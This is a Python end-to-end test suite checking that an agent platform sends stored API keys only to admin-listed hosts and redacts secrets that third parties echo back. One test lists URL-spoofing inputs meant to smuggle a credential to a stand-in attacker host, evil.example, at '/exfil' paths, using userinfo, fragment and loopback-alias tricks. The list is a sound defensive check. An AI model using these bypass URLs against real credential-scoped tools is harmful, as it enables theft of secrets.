"""A credential goes only where an admin meant it to go, and a third party that echoes it back cannot leak it.

API.md "Credentials": from ``http_request`` a credential is sent only to one of its ``hosts`` (none listed: nowhere);
a custom tool sends it to the endpoint its admin wrote; a secret value that a third party echoes back is redacted from
every output, task, event and audit entry. Tried here as a member of the tenant would, through the public API.
"""

from __future__ import annotations

import json

from tests.e2e.fake_third_party import FakeThirdParty
from tests.e2e.stack import Stack


def _assert_denied(answer_text: str, status: int, secret: str) -> None:
    assert status == 403, answer_text
    assert json.loads(answer_text)["error"]["code"] == "PERMISSION_DENIED"
    assert secret not in answer_text


def test_a_member_cannot_send_a_credential_anywhere_but_its_hosts(
    stack: Stack, tenant: str, third_party: FakeThirdParty
) -> None:
    secret = f"sk-{tenant}-bound"
    port = third_party.port
    elsewhere = [
        f"http://localhost:{port}/exfil",  # another name for the same address is another host
        f"http://127.0.0.2:{port}/exfil",
        f"http://127.0.0.1:{port + 1 if port < 65535 else port - 1}/exfil",
        f"http://127.0.0.1:{port}@evil.example/exfil",
        f"http://evil.example/exfil?to=127.0.0.1:{port}",
        f"http://evil.example/#@127.0.0.1:{port}",
        f"http://[::1]:{port}/exfil",
        "https://127.0.0.1/exfil",  # no port in the URL: 443
    ]
    with stack.client(tenant) as admin, stack.client(tenant, role="member", sub="mallory") as member:
        spec = {"type": "api_key", "value": secret, "hosts": [third_party.origin]}
        assert admin.put("/v1/credentials/crm", json=spec).status_code == 201
        admin.put("/v1/credentials/loose", json={"type": "api_key", "value": secret + "-loose"})
        for url in elsewhere:
            answer = member.post("/v1/tools/http_request/invoke", json={"arguments": {"url": url, "credential": "crm"}})
            _assert_denied(answer.text, answer.status_code, secret)
            assert "may not be sent to that URL" in answer.json()["error"]["message"]
        # A credential without hosts is for custom tools only.
        answer = member.post(
            "/v1/tools/http_request/invoke",
            json={"arguments": {"url": f"{third_party.base_url}/exfil", "credential": "loose"}},
        )
        _assert_denied(answer.text, answer.status_code, secret)
        assert "lists no hosts" in answer.json()["error"]["message"]
        # Other spellings of the listed host are that host: the call goes through, with the credential.
        for spelling in ("127.0.0.1", "0x7f000001", "2130706433", "127.1"):
            url = f"http://{spelling}:{port}/allowed-{tenant}"
            answer = member.post("/v1/tools/http_request/invoke", json={"arguments": {"url": url, "credential": "crm"}})
            assert answer.status_code == 200, answer.text
        # In a task the step fails with the reason, and nothing of the secret shows.
        agent_id = admin.post("/v1/agents", json={"name": "a", "tools": ["http_request"]}).json()["id"]
        plan = {"plan": [{"id": "s1", "tool": "http_request", "arguments": {"url": elsewhere[3], "credential": "crm"}}]}
        task_id = member.post(f"/v1/agents/{agent_id}/tasks", json={"input": plan}).json()["task_id"]
        with member.stream("GET", f"/v1/tasks/{task_id}/events") as events:
            streamed = "".join(events.iter_text())
        task = member.get(f"/v1/tasks/{task_id}").json()
        assert task["status"] == "failed" and "may not be sent to that URL" in json.dumps(task)
        audit = admin.get("/v1/audit", params={"limit": 100}).json()["events"]
    denied = [e for e in audit if e["outcome"] == "denied" and e["credential"] in ("crm", "loose")]
    assert len(denied) == len(elsewhere) + 2  # every refusal is audited, with the user who tried
    assert {e["user"] for e in denied} == {"mallory"}
    assert not [r for r in third_party.received if r.path == "/exfil"]
    assert [r.headers["Authorization"] for r in third_party.requests_to(f"/allowed-{tenant}")] == [
        f"Bearer {secret}"
    ] * 4
    for text in (streamed, json.dumps(task), json.dumps(audit), stack.logs()):
        assert secret not in text


def test_a_secret_the_third_party_echoes_back_is_redacted_everywhere(
    stack: Stack, tenant: str, third_party: FakeThirdParty
) -> None:
    secret = f"sk-{tenant}-echoed"
    with stack.client(tenant) as api:
        api.put("/v1/credentials/echo", json={"type": "api_key", "value": secret, "hosts": [third_party.origin]})
        tool = {
            "tool_id": "debug",
            "name": "Debug",
            "endpoint": f"{third_party.base_url}/echo-headers",
            "method": "GET",
            "auth": "api_key",
            "credential": "echo",
        }
        assert api.post("/v1/tools", json=tool).status_code == 201
        direct = api.post("/v1/tools/debug/invoke", json={"arguments": {}})
        assert direct.status_code == 200, direct.text
        assert direct.json()["output"]["headers"]["Authorization"] == "Bearer [redacted]"
        agent_id = api.post(
            "/v1/agents", json={"name": "a", "tools": ["debug", "http_request", "text_template"]}
        ).json()["id"]
        plan = {
            "plan": [
                {"id": "s1", "tool": "debug", "arguments": {}},
                {
                    "id": "s2",
                    "tool": "http_request",
                    "arguments": {"url": f"{third_party.base_url}/echo-headers", "credential": "echo"},
                },
                {
                    "id": "s3",
                    "tool": "text_template",
                    "arguments": {"template": "{{ a }} {{ b }}", "values": {"a": "${s1.output}", "b": "${s2.output}"}},
                    "depends_on": ["s1", "s2"],
                },
            ]
        }
        task_id = api.post(f"/v1/agents/{agent_id}/tasks", json={"input": plan}).json()["task_id"]
        with api.stream("GET", f"/v1/tasks/{task_id}/events") as events:
            streamed = "".join(events.iter_text())
        task = api.get(f"/v1/tasks/{task_id}").json()
        audit = api.get("/v1/audit", params={"limit": 100}).text
    assert task["status"] == "succeeded", task
    assert json.dumps(task).count("Bearer [redacted]") >= 3  # each echo, and the text made of them
    # The third party did receive the secret each time: the redaction is not vacuous.
    received = third_party.requests_to("/echo-headers")
    assert [r.headers["Authorization"] for r in received[-3:]] == [f"Bearer {secret}"] * 3
    for text in (direct.text, streamed, json.dumps(task), audit, stack.logs()):
        assert secret not in text
